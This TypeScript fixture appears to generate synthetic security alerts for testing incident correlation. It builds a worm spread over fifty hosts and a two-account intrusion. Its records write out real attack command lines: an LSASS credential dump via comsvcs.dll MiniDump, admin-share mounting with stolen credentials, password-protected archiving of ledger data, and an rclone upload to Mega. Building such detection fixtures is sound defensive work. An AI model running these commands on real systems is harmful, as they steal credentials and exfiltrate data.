/** Attacks that concern several actors: an outbreak and a campaign. */
import { cmd, detection, type Fields, process, system32 } from "./records.ts";

/** As the system, so that each host is an actor, and none of them an incident by itself. */
export function worm(): Fields[] {
  return Array.from({ length: 50 }, (_, n) => {
    const host = `BR-${String(20 + n)}.corp.example`;
    const line = "rundll32.exe C:\\Windows\\Temp\\wsvc.dll,Start 10.40.7.0/24";
    return detection(
      { title: "Rundll32 Execution From Temp Folder", level: "high", tags: ["execution", "t1218.011"] },
      n,
      {
        host,
        user: "NT AUTHORITY\\SYSTEM",
        raw: process(host, "NT AUTHORITY\\SYSTEM", `${system32}\\rundll32.exe`, line, `${system32}\\services.exe`),
      },
    );
  });
}

/** One attack with two accounts: a workstation, and what was taken there used on a server. */
export function twoAccounts(): Fields[] {
  const on = (host: string, user: string, image: string, line: string) => ({
    host,
    user: `CORP\\${user}`,
    raw: process(host, `CORP\\${user}`, image, line, cmd),
  });
  const dump = "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\ProgramData\\l.dmp full";
  const shares = "net use \\\\fin-srv-05\\c$ /user:CORP\\svc-report";
  return [
    detection(
      { title: "Lsass Memory Dump via Comsvcs DLL", level: "critical", tags: ["credential-access", "t1003.001"] },
      0,
      on("HR-WS-21", "h.brandt", `${system32}\\rundll32.exe`, dump),
    ),
    detection(
      { title: "Admin Share Mounted With Other Credentials", level: "high", tags: ["lateral-movement", "t1021.002"] },
      140,
      on("HR-WS-21", "svc-report", `${system32}\\net.exe`, shares),
    ),
    detection(
      { title: "Data Compressed With Password", level: "high", tags: ["collection", "t1560.001"] },
      610,
      on(
        "FIN-SRV-05",
        "svc-report",
        "C:\\ProgramData\\7z.exe",
        "7z.exe a -pSpring! C:\\ProgramData\\out.7z D:\\Ledger",
      ),
    ),
    detection(
      { title: "Upload To Cloud Storage By Rclone", level: "critical", tags: ["exfiltration", "t1567.002"] },
      900,
      on("FIN-SRV-05", "svc-report", "C:\\ProgramData\\rclone.exe", "rclone.exe copy C:\\ProgramData\\out.7z mega:out"),
    ),
  ];
}
